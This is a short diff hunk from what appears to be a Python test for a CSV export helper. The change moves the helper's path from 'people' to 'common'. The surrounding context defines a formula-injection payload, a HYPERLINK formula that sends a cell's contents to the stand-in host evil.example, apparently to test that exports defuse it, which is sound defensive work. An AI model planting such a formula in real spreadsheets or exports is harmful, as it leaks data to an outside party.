@@ -20,7 +20,7 @@ from tests.factories import StaffMemberFactory
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Open evidence")'
 REPO = Path(__file__).resolve().parents[2]
-HELPER = REPO / "people" / "csv_export.py"
+HELPER = REPO / "common" / "csv_export.py"
 
 
 @pytest.mark.parametrize(
